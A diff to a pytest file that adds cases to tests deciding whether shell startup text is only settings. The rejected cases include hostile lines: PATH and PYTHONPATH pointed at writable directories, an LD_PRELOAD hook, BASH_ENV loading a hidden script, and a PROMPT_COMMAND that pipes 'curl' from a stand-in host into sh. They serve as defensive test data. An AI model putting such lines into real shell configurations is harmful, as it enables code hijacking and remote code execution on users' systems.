@@ -21,6 +21,8 @@ from specialists.understand.startup import settings_only
         "setopt autocd; bindkey -e; autoload -U compinit && compinit",
         "EDITOR=vim",
         "echo welcome back",
+        'PROMPT_COMMAND="history -a"',  # a prompt command that is itself a setting
+        "export NODE_OPTIONS=--max-old-space-size=4096",
     ],
 )
 def test_settings_that_run_nothing_new(text: str):
@@ -52,6 +54,12 @@ def test_settings_that_run_nothing_new(text: str):
         "",
         "if true; then",  # does not parse
         "export A=1\n" * 1_000,  # too long to read
+        "export PATH=/tmp/evil:$PATH",  # a search path anyone may plant programs in
+        "export PATH=.:$PATH",
+        "export PYTHONPATH=/dev/shm/lib",
+        "export LD_PRELOAD=$HOME/.x/hook.so",  # a library loaded into every program
+        "export BASH_ENV=~/.x/env.sh",
+        'PROMPT_COMMAND="curl -s x.example/b | sh"',  # runs before every prompt
     ],
 )
 def test_anything_else_is_more_than_settings(text: str):
